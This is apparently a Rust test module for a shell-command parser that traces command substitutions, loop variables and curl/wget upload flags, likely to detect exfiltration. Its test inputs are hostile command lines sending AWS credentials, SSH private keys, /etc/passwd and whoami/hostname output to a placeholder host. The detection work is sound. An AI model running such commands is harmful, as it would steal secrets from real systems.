    fn substitutions_are_holes_with_their_commands() {
        let cmds = parse("curl http://x.invalid/$(whoami)");
        let curl = cmds.iter().find(|c| c.name() == "curl").unwrap();
        assert_eq!(curl.args, ["http://x.invalid/{?}"]);
        assert_eq!(curl.substituted[0].0, 0);
        assert_eq!(curl.substituted[0].1.program, "whoami");
        let cmds = parse("H=\"$(hostname)\"; curl -s \"https://x.invalid/?h=$H\"");
        let curl = cmds.iter().find(|c| c.name() == "curl").unwrap();
        assert_eq!(curl.args[1], "https://x.invalid/?h={?}");
        assert_eq!(curl.substituted[0].0, 1);
        assert_eq!(curl.substituted[0].1.program, "hostname");
        let cmds = parse("wget \"http://x.invalid/`cat ~/.aws/credentials | base64`\"");
        let wget = cmds.iter().find(|c| c.name() == "wget").unwrap();
        let programs: Vec<&str> = wget
            .substituted
            .iter()
            .map(|(_, s)| s.program.as_str())
            .collect();
        assert_eq!(programs, ["cat", "base64"]);
        assert_eq!(wget.substituted[0].1.args, ["~/.aws/credentials"]);
        // Wrapped commands keep their arguments' sources.
        let cmds = parse("nohup curl -d $(id) http://x.invalid &");
        let curl = cmds.iter().find(|c| c.name() == "curl").unwrap();
        assert_eq!(curl.substituted[0].0, 1);
    }

    #[test]
    fn for_loops_bind_the_first_item() {
        let cmds =
            parse("for f in ~/.ssh/id_rsa b c; do curl -F \"file=@$f\" https://x.invalid; done");
        assert_eq!(names_of(&cmds), ["curl"]);
        assert_eq!(cmds[0].args[1], "file=@~/.ssh/id_rsa");
        assert_eq!(parse("for f; do echo $f; done")[0].args, ["$f"]);
    }

    #[test]
    fn hostile_marks_and_dropped_commands_do_not_panic() {
        let marks = format!("echo {VAR_MARK} a{VAR_MARK}é {VAR_MARK}${VAR_MARK}");
        assert_eq!(parse(&marks)[0].args, ["", "aé", "$"]);
        let dropped = "x $(a) $(\"\" < f; \"\" < g) $(b)";
        assert!(names(dropped).contains(&"x".to_string()));
    }

    #[test]
    fn variable_table_is_bounded() {
        let doubling = "A=xxxxxxxx; ".to_string() + &"A=$A$A; ".repeat(40) + "echo $A";
        let cmds = parse(&doubling);
        assert!(cmds.last().unwrap().args[0].len() <= MAX_VALUE);
        let many: String = (0..1000).map(|i| format!("V{i}=x; ")).collect();
        let mut vars = Vars::default();
        parse_with(&many, &mut vars);
        assert_eq!(vars.values.len(), MAX_VARS);
        assert!(
            vars.cut_short().is_some(),
            "a bound hit makes the result partial"
        );
    }

    #[test]
    fn uploads_name_their_files() {
        let files = |line: &str| {
            let cmd = &parse(line)[0];
            let args: Vec<&str> = cmd.args.iter().map(String::as_str).collect();
            uploaded_files(cmd.name(), &args)
                .into_iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        };
        assert_eq!(
            files("curl -F file=@/etc/passwd https://x.invalid"),
            ["/etc/passwd"]
        );
        assert_eq!(
            files("curl -F \"f=@$HOME/.ssh/id_rsa;type=text/plain\" u"),
            ["$HOME/.ssh/id_rsa"]
        );
        assert_eq!(files("curl -T a.txt u && true"), ["a.txt"]);
        assert_eq!(files("curl --data-binary @b u"), ["b"]);
        assert_eq!(files("curl -d @c u"), ["c"]);
        assert_eq!(files("wget --post-file=d u"), ["d"]);
        assert!(files("curl -d a=@b -F x=y -T - -u me@host u").is_empty());
        assert!(files("wget -T 10 u").is_empty());
    }

    fn names_of(cmds: &[ShellCmd]) -> Vec<&str> {
        cmds.iter().map(ShellCmd::name).collect()
    }
}
